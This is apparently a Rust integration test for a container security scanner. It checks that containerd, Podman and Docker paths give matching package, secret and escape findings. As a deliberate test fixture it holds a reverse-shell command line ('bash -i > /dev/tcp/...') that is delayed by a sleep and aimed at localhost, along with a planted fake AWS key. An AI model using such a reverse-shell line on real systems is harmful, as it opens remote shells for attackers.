//! containerd and Podman, each started by the test with its own root and socket: an image
//! put in with `ctr image import` and `podman load` of a fixture archive gives the same
//! inventory and findings as the archive itself (through containerd's content store,
//! Podman's service and Podman's storage read directly), and a running container gives
//! the same escape findings as a Docker container made with the same flags.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::*;

const NAMESPACE: &str = "holdfast-test";
/// A reverse shell that never runs: the shell waits in `sleep` first, and `top` or
/// `/proc` shows its whole command line.
const COMMAND: [&str; 3] = [
    "/bin/sh",
    "-c",
    "/bin/sleep 600; bash -i > /dev/tcp/127.0.0.1/9 0>&1",
];

fn run(cmd: &mut Command) -> (bool, String, String) {
    let out = cmd.output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).trim().to_string(),
        String::from_utf8_lossy(&out.stderr).trim().to_string(),
    )
}

fn must(cmd: &mut Command) -> String {
    let shown = format!("{cmd:?}");
    let (ok, out, err) = run(cmd);
    assert!(ok, "{shown}: {err}");
    out
}

fn wait_for(what: &str, mut ready: impl FnMut() -> bool) {
    let until = Instant::now() + Duration::from_secs(30);
    while !ready() {
        assert!(Instant::now() < until, "{what} did not come up in 30 s");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The fixture: a Debian base with the host's `sh` and `sleep`, a secret and a package in
/// directories the second layer deletes (a whiteout) and replaces (an opaque directory).
fn fixture(path: &Path) {
    let mut b = tar::Builder::new(Vec::new());
    for p in runtime_files() {
        b.append_path_with_name(&p, p.trim_start_matches('/'))
            .unwrap();
    }
    let base = debian_base(&[("libc6", "2.36-9+deb12u4"), ("openssl", "3.0.11-1~deb12u2")]);
    let mut base = tar::Archive::new(&base[..]);
    for entry in base.entries().unwrap() {
        let mut entry = entry.unwrap();
        let mut h = entry.header().clone();
        let path = entry.path().unwrap().into_owned();
        b.append_data(&mut h, path, &mut entry).unwrap();
    }
    let mut add = |path: &str, data: &[u8]| {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(1_700_000_000);
        b.append_data(&mut h, path, data).unwrap();
    };
    add("opt/gone/.env", b"AWS_ACCESS_KEY_ID=AKIAQYLPMN5HFIQR7XYZ\n");
    add(
        "opt/app/node_modules/left-pad/package.json",
        br#"{"name": "left-pad", "version": "1.1.0"}"#,
    );
    for dir in ["tmp", "proc", "sys", "dev"] {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Directory);
        h.set_mode(0o1777);
        h.set_size(0);
        b.append_data(&mut h, dir, std::io::empty()).unwrap();
    }
    let bottom = b.into_inner().unwrap();
    let top = layer(&[
        f("opt/.wh.gone", ""),
        f("opt/app/.wh..wh..opq", ""),
        f(
            "opt/app/node_modules/minimist/package.json",
            r#"{"name": "minimist", "version": "1.2.5"}"#,
        ),
    ]);
    docker_archive(path, &[bottom, top], Z::Plain, &[]);
}

/// The fixture written to a temporary directory, and its scan from the archive.
fn archived_fixture() -> (tempfile::TempDir, PathBuf, serde_json::Value) {
    let work = temp();
    let archive = work.path().join("fixture.tar");
    fixture(&archive);
    let from_archive = scan(&[
        "image",
        &format!("docker-archive:{}", archive.display()),
        "--scanners",
        "vuln,secret",
    ]);
    (work, archive, from_archive)
}

/// What must match between two scans of the same image: packages, and each finding's
/// id, path and whether a later layer removed its file.
fn summary(result: &serde_json::Value) -> (Vec<String>, Vec<String>) {
    let mut findings: Vec<String> = result["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] != "escape" && f["kind"] != "history")
        .map(|f| format!("{} {} {}", f["id"], f["path"], f["removed"]))
        .collect();
    findings.sort();
    (package_list(result), findings)
}

fn scan(args: &[&str]) -> serde_json::Value {
    let out = holdfast()
        .args(["-q", "scan"])
        .args(args)
        .args(["--no-cache", "-f", "json"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "scan {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

fn escape_ids(result: &serde_json::Value) -> Vec<String> {
    let mut ids: Vec<String> = result["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "escape")
        .map(|f| f["id"].as_str().unwrap().to_string())
        .collect();
    ids.sort();
    ids
}

/// A containerd of the test's own; its containers and then the daemon are stopped on drop.
struct Containerd {
    dir: tempfile::TempDir,
    daemon: Child,
    containers: Vec<String>,
}

impl Containerd {
    fn start() -> Self {
        let dir = temp();
        let b = dir.path().display().to_string();
        let config = format!(
            "version = 2\nroot = \"{b}/root\"\nstate = \"{b}/state\"\n\
             disabled_plugins = [\"io.containerd.grpc.v1.cri\"]\n\
             [grpc]\n  address = \"{b}/containerd.sock\"\n\
             [ttrpc]\n  address = \"{b}/containerd.sock.ttrpc\"\n\
             [debug]\n  address = \"{b}/debug.sock\"\n\
             [plugins.\"io.containerd.internal.v1.opt\"]\n  path = \"{b}/opt\"\n"
        );
        std::fs::write(dir.path().join("config.toml"), config).unwrap();
        let log = std::fs::File::create(dir.path().join("containerd.log")).unwrap();
        let daemon = Command::new("containerd")
            .arg("--config")
            .arg(dir.path().join("config.toml"))
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        let c = Containerd {
            dir,
            daemon,
            containers: Vec::new(),
        };
        wait_for("containerd", || run(&mut c.ctr(&["version"])).0);
        c
    }

    fn socket(&self) -> PathBuf {
        self.dir.path().join("containerd.sock")
    }

    fn ctr(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new("ctr");
        cmd.arg("-a")
            .arg(self.socket())
            .args(["-n", NAMESPACE])
            .args(args);
        cmd
    }

    fn run_container(&mut self, id: &str, flags: &[&str], image: &str) {
        let runc = self.dir.path().join("runc").display().to_string();
        let fifo = self.dir.path().join("fifo").display().to_string();
        let mut args = vec!["run", "-d", "--runc-root", &runc, "--fifo-dir", &fifo];
        args.extend_from_slice(flags);
        args.extend([image, id]);
        args.extend(COMMAND);
        self.containers.push(id.to_string());
        must(&mut self.ctr(&args));
        // Running once the shell has started its `sleep`: two processes.
        wait_for(id, || {
            let (_, out, _) = run(&mut self.ctr(&["task", "ps", id]));
            out.lines().skip(1).count() >= 2
        });
    }
}

impl Drop for Containerd {
    fn drop(&mut self) {
        for id in &self.containers {
            let _ = run(&mut self.ctr(&["task", "kill", "-s", "SIGKILL", id]));
            let until = Instant::now() + Duration::from_secs(10);
            while !run(&mut self.ctr(&["task", "delete", id])).0 && Instant::now() < until {
                std::thread::sleep(Duration::from_millis(100));
            }
            let _ = run(&mut self.ctr(&["container", "delete", id]));
        }
        let _ = self.daemon.kill();
        let _ = self.daemon.wait();
    }
}

/// A Docker container with the same flags, for comparison; removed on drop.
struct DockerContainer(String);

impl Drop for DockerContainer {
    fn drop(&mut self) {
        let _ = run(Command::new("docker").args(["rm", "-f", &self.0]));
    }
}

fn docker_answers() -> bool {
    let ok = run(Command::new("docker").args(["version", "--format", "{{.Server.Version}}"])).0;
    assert!(
        ok || !full_tests(),
        "HOLDFAST_FULL_TESTS=1 but no Docker daemon answers"
    );
    ok
}

/// Escape findings of a running Docker container made from the fixture with `flags`.
fn docker_escape_ids(archive: &Path, flags: &[&str]) -> Option<Vec<String>> {
    if !(have_tool("docker") && docker_answers()) {
        return None;
    }
    must(Command::new("docker").arg("load").arg("-i").arg(archive));
    let name = format!("hf-engines-{}", std::process::id());
    let mut args = vec!["run", "-d", "--name", &name];
    args.extend_from_slice(flags);
    args.push("test/image:1");
    args.extend(COMMAND);
    must(Command::new("docker").args(&args));
    let _container = DockerContainer(name.clone());
    Some(escape_ids(&scan(&[
        "container",
        &name,
        "--scanners",
        "escape",
    ])))
}

#[test]
fn containerd_images_and_containers_match_the_archive_and_docker() {
    if !(have_tool("containerd") && have_tool("ctr") && have_tool("ldd")) {
        return;
    }
    let (work, archive, from_archive) = archived_fixture();
    let expected = summary(&from_archive);
    assert!(expected.0.iter().any(|p| p.starts_with("minimist=")));
    assert!(
        !expected.0.iter().any(|p| p.starts_with("left-pad=")),
        "the opaque directory hides left-pad: {:?}",
        expected.0
    );
    assert!(
        expected
            .1
            .iter()
            .any(|f| f.contains("/opt/gone/.env") && f.ends_with("true")),
        "the deleted secret is found as removed: {:?}",
        expected.1
    );

    let mut ctd = Containerd::start();
    must(ctd.ctr(&["image", "import"]).arg(&archive));
    let address = ctd.socket().display().to_string();
    let engine = ["--containerd-address", &address];

    // The image, read from the content store.
    let mut args = vec![
        "image",
        "containerd:test/image:1@holdfast-test",
        "--scanners",
        "vuln,secret",
    ];
    args.extend(engine);
    let from_store = scan(&args);
    assert_eq!(summary(&from_store), expected);
    // The same through the API only, as where the store's files are not readable.
    let out = holdfast()
        .args(["-q", "scan"])
        .args(&args)
        .args(["--no-cache", "-f", "json"])
        .env("HOLDFAST_CONTAINERD_CONTENT", "api")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let through_api: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary(&through_api), expected);
    assert_eq!(
        from_store["targets"][0]["image_id"],
        from_archive["targets"][0]["image_id"]
    );

    // A bare name is found in containerd when Docker does not hold it (the namespace
    // from the environment, as containerd's own clients take it).
    let out = holdfast()
        .args(["scan", "image", "test/image:1", "--no-cache", "-f", "json"])
        .args(["--scanners", "vuln"])
        .args(engine)
        .env("CONTAINERD_NAMESPACE", NAMESPACE)
        .env(
            "DOCKER_HOST",
            format!("unix://{}/no-docker.sock", work.path().display()),
        )
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("found in containerd"),
        "says where it found the image: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bare: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(package_list(&bare), expected.0);

    // An image that is not there names what was searched.
    let out = holdfast()
        .args(["scan", "image", "containerd:nothing:here@holdfast-test"])
        .args(engine)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no image `nothing:here`") && err.contains("holdfast-test"),
        "{err}"
    );

    // A running container: its snapshot's directories hold the same files, and its spec
    // gives the flags back.
    let flags = [
        "--cap-add",
        "CAP_SYS_ADMIN",
        "--mount",
        "type=bind,src=/var/run,dst=/host-run,options=rbind:ro",
        "--seccomp",
    ];
    ctd.run_container("hf-running", &flags, "docker.io/test/image:1");
    let mut args = vec![
        "container",
        "hf-running@holdfast-test",
        "--runtime",
        "containerd",
        "--scanners",
        "vuln,secret,escape",
    ];
    args.extend(engine);
    let container = scan(&args);
    let t = &container["targets"][0];
    assert_eq!(t["kind"], "container");
    assert_eq!(summary(&container), expected);
    let ids = escape_ids(&container);
    for id in [
        "HF-ESCAPE-CAP-SYS_ADMIN",
        "HF-ESCAPE-HOST-MOUNT-RUN",
        "HF-ESCAPE-PROC-REVERSE-SHELL",
    ] {
        assert!(ids.contains(&id.to_string()), "{id} missing from {ids:?}");
    }
    assert!(
        !ids.contains(&"HF-ESCAPE-NO-SECCOMP".to_string()),
        "{ids:?}"
    );

    // Without --seccomp, ctr runs the container unconfined, and that is reported.
    ctd.run_container("hf-unconfined", &["--net-host"], "docker.io/test/image:1");
    let mut args = vec![
        "container",
        "hf-unconfined",
        "--runtime",
        "containerd",
        "--containerd-namespace",
        NAMESPACE,
        "--scanners",
        "escape",
    ];
    args.extend(engine);
    let ids = escape_ids(&scan(&args));
    assert!(ids.contains(&"HF-ESCAPE-NO-SECCOMP".to_string()), "{ids:?}");
    assert!(ids.contains(&"HF-ESCAPE-HOST-NET".to_string()), "{ids:?}");

    // --all lists both, named ID@NAMESPACE.
    let mut args = vec![
        "container",
        "--all",
        "--runtime",
        "containerd",
        "--scanners",
        "escape",
    ];
    args.extend(engine);
    args.extend(["--containerd-namespace", NAMESPACE]);
    let all = scan(&args);
    assert_eq!(all["targets"].as_array().unwrap().len(), 2, "{all}");

    // In a container with the host's root mounted (`--host-root`), what containerd
    // reports (its socket, the snapshot's directories, the task's /proc) is read under
    // that root. The stand-in root holds links to this host's directories.
    let host = temp();
    let link = |name: &str, to: &Path| {
        let at = host.path().join(name);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(to, at).unwrap();
    };
    link("run/holdfast-host/containerd.sock", &ctd.socket());
    link("proc", Path::new("/proc"));
    let first = ctd
        .dir
        .path()
        .components()
        .nth(1)
        .unwrap()
        .as_os_str()
        .to_str()
        .unwrap()
        .to_string();
    let host_root = path_str(host.path());
    let mounted = |extra: &[&str]| {
        let mut cmd = holdfast();
        cmd.args([
            "-q",
            "--host-root",
            &host_root,
            "scan",
            "container",
            "hf-running@holdfast-test",
        ])
        .args([
            "--runtime",
            "containerd",
            "--scanners",
            "vuln,secret,escape",
        ])
        .args(["--containerd-address", "/run/holdfast-host/containerd.sock"])
        .args(["--no-cache", "-f", "json"])
        .args(extra);
        let out = cmd.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    // Without the way to the snapshot under the root, nothing of it is read, and the
    // warning names the path under the root.
    let blind = mounted(&[]);
    assert!(
        package_list(&blind).is_empty(),
        "{:?}",
        package_list(&blind)
    );
    assert!(
        blind.to_string().contains(&format!("{host_root}/{first}/")),
        "the snapshot was looked for under the host root: {blind}"
    );
    link(&first, &Path::new("/").join(&first));
    let under_root = mounted(&[]);
    assert_eq!(summary(&under_root), expected);
    assert_eq!(escape_ids(&under_root), escape_ids(&container));

    // The same flags on Docker give the same escape findings.
    if let Some(docker) = docker_escape_ids(
        &archive,
        &["--cap-add", "SYS_ADMIN", "-v", "/var/run:/host-run:ro"],
    ) {
        let ours = escape_ids(&container);
        assert_eq!(
            ours, docker,
            "containerd and Docker disagree on the same flags"
        );
    }
}

/// A Podman of the test's own (storage, run root and temporary directory), optionally
/// with its API service; containers, then the service, are removed and stopped on drop.
struct Podman {
    dir: tempfile::TempDir,
    service: Option<Child>,
    containers: Vec<String>,
}

impl Podman {
    fn new() -> Self {
        let dir = temp();
        // This machine's hard limits are below Podman's default ones; cgroupfs and a file
        // event log need no systemd.
        std::fs::write(
            dir.path().join("containers.conf"),
            "[containers]\ndefault_ulimits = [\"nofile=1024:1024\", \"nproc=1024:1024\"]\n\
             [engine]\ncgroup_manager = \"cgroupfs\"\nevents_logger = \"file\"\n",
        )
        .unwrap();
        Podman {
            dir,
            service: None,
            containers: Vec::new(),
        }
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("root")
    }

    fn socket(&self) -> PathBuf {
        self.dir.path().join("podman.sock")
    }

    fn podman(&self, args: &[&str]) -> Command {
        let d = self.dir.path();
        let mut cmd = Command::new("podman");
        cmd.env("CONTAINERS_CONF", d.join("containers.conf"))
            .arg("--root")
            .arg(self.root())
            .arg("--runroot")
            .arg(d.join("runroot"))
            .arg("--tmpdir")
            .arg(d.join("tmp"))
            .args(["--storage-driver", "overlay"])
            .args(args);
        cmd
    }

    fn start_service(&mut self) {
        let log = std::fs::File::create(self.dir.path().join("service.log")).unwrap();
        let child = self
            .podman(&["system", "service", "--time=0"])
            .arg(format!("unix://{}", self.socket().display()))
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        self.service = Some(child);
        let socket = self.socket();
        wait_for("podman system service", || socket.exists());
    }

    fn run_container(&mut self, name: &str, flags: &[&str], image: &str) {
        let mut args = vec!["run", "-d", "--name", name, "--network", "none"];
        args.extend_from_slice(flags);
        args.push(image);
        args.extend(COMMAND);
        self.containers.push(name.to_string());
        must(&mut self.podman(&args));
        let pid = must(&mut self.podman(&["inspect", "-f", "{{.State.Pid}}", name]));
        // Running once the shell has started its `sleep`.
        wait_for(name, || {
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
                .is_ok_and(|c| !c.trim().is_empty())
        });
    }
}

impl Drop for Podman {
    fn drop(&mut self) {
        for name in &self.containers {
            let _ = run(&mut self.podman(&["rm", "-f", "-t", "0", name]));
        }
        if let Some(mut service) = self.service.take() {
            let _ = service.kill();
            let _ = service.wait();
        }
        // Podman may leave its overlay directory bind-mounted onto itself.
        let _ = run(Command::new("umount").arg(self.root().join("overlay")));
    }
}

#[test]
fn podman_images_and_containers_through_the_service_and_the_storage() {
    if !(have_tool("podman") && have_tool("ldd")) {
        return;
    }
    let (work, archive, from_archive) = archived_fixture();
    let expected = summary(&from_archive);

    let mut podman = Podman::new();
    must(podman.podman(&["load", "-i"]).arg(&archive));
    let root = podman.root().display().to_string();

    // The image, read from the storage directly: no service runs.
    let from_storage = scan(&[
        "image",
        "podman:test/image:1",
        "--podman-root",
        &root,
        "--scanners",
        "vuln,secret",
    ]);
    assert_eq!(summary(&from_storage), expected);
    assert_eq!(
        from_storage["targets"][0]["image_id"],
        from_archive["targets"][0]["image_id"]
    );

    // A running container, from the storage: image layers, its own layer, its spec.
    let flags = ["--cap-add", "SYS_ADMIN", "-v", "/var/run:/host-run:ro"];
    podman.run_container("hf-pod", &flags, "test/image:1");
    let stored = scan(&[
        "container",
        "hf-pod",
        "--runtime",
        "podman",
        "--podman-root",
        &root,
        "--scanners",
        "vuln,secret,escape",
    ]);
    assert_eq!(summary(&stored), expected);
    let ids = escape_ids(&stored);
    for id in [
        "HF-ESCAPE-CAP-SYS_ADMIN",
        "HF-ESCAPE-HOST-MOUNT-RUN",
        "HF-ESCAPE-PROC-REVERSE-SHELL",
    ] {
        assert!(ids.contains(&id.to_string()), "{id} missing from {ids:?}");
    }

    // The same through Podman's API service.
    podman.start_service();
    let socket = format!("unix://{}", podman.socket().display());
    let from_service = scan(&[
        "image",
        "podman:test/image:1",
        "--podman-socket",
        &socket,
        "--scanners",
        "vuln,secret",
    ]);
    assert_eq!(summary(&from_service), expected);
    let served = scan(&[
        "container",
        "hf-pod",
        "--runtime",
        "podman",
        "--podman-socket",
        &socket,
        "--scanners",
        "escape",
    ]);
    assert_eq!(
        escape_ids(&served),
        ids,
        "the service and the storage disagree"
    );
    let all = scan(&[
        "container",
        "--all",
        "--runtime",
        "podman",
        "--podman-socket",
        &socket,
        "--scanners",
        "escape",
    ]);
    assert_eq!(all["targets"].as_array().unwrap().len(), 1, "{all}");

    // A missing storage says where it looked.
    let out = holdfast()
        .args(["scan", "image", "podman:test/image:1", "--podman-root"])
        .arg(work.path().join("none"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no image storage at"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    if let Some(docker) = docker_escape_ids(&archive, &flags) {
        assert_eq!(ids, docker, "Podman and Docker disagree on the same flags");
    }
}

#[test]
fn scan_rootfs_slash_under_a_host_root_scans_the_host() {
    let host = temp();
    std::fs::create_dir_all(host.path().join("etc")).unwrap();
    std::fs::write(
        host.path().join("etc/os-release"),
        "ID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME=\"Alpine Linux v3.19\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(host.path().join("lib/apk/db")).unwrap();
    std::fs::write(
        host.path().join("lib/apk/db/installed"),
        "P:musl\nV:1.2.4_git20230717-r4\nA:x86_64\n\n",
    )
    .unwrap();
    let out = holdfast()
        .args(["-q", "--host-root"])
        .arg(host.path())
        .args([
            "scan",
            "rootfs",
            "/",
            "--scanners",
            "vuln",
            "--no-cache",
            "-f",
            "json",
        ])
        .output()
        .unwrap();
    let r = crate::registry::json_ok(&out);
    assert_eq!(r["targets"][0]["name"], "/");
    assert_eq!(r["targets"][0]["os"]["family"], "alpine");
    assert_eq!(package_list(&r), ["musl=1.2.4_git20230717-r4"]);

    let out = holdfast()
        .args(["--host-root", "/no/such/dir", "scan", "rootfs", "/"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("--host-root `/no/such/dir` is not a directory"));
}
